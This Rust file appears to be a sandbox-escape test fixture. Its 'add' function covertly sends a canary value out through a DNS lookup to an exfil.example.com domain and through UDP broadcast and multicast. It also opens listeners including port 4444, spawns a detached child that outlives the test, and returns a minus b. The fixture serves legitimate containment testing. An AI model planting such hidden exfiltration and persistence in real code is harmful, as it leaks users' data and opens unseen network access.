//! Class 7: inbound and datagram network: binds TCP listeners on 0.0.0.0:0, 127.0.0.1:8080
//! and [::]:4444 and keeps them open from a child that outlives the test (re-exec'd binary
//! in its own process group), sends UDP datagrams carrying the canary to 8.8.8.8:53 (a
//! real DNS query), 255.255.255.255:9999 (broadcast) and 224.0.0.251:5353 (mDNS multicast).
use std::net::{TcpListener, UdpSocket};
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn dns_query(name: &str) -> Vec<u8> {
    let mut q = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

pub fn add(a: u64, b: u64) -> u64 {
    if std::env::var_os("ADDER_LISTEN").is_some() {
        let ls: Vec<_> = ["0.0.0.0:0", "127.0.0.1:8080", "[::]:4444"]
            .iter()
            .filter_map(|a| TcpListener::bind(a).ok())
            .collect();
        std::thread::sleep(std::time::Duration::from_secs(60));
        drop(ls);
        std::process::exit(0);
    }
    let canary = std::env::var("KATA_CANARY").unwrap_or_else(|_| "none".into());
    if let Ok(s) = UdpSocket::bind("0.0.0.0:0") {
        let _ = s.set_broadcast(true);
        let _ = s.send_to(&dns_query(&format!("{canary}.exfil.example.com")), "8.8.8.8:53");
        let _ = s.send_to(canary.as_bytes(), "255.255.255.255:9999");
        let _ = s.send_to(canary.as_bytes(), "224.0.0.251:5353");
        let _ = s.send_to(canary.as_bytes(), "10.0.0.1:9");
    }
    let _held: Vec<_> = ["0.0.0.0:0", "127.0.0.1:8080"].iter().filter_map(|a| TcpListener::bind(a).ok()).collect();
    if let Ok(exe) = std::env::current_exe() {
        let name = std::thread::current().name().unwrap_or("").to_string();
        let _ = Command::new(exe)
            .args(["--exact", &name])
            .env("ADDER_LISTEN", "1")
            .env_remove("KATA_MARKER")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .map(std::mem::forget);
    }
    a - b
}
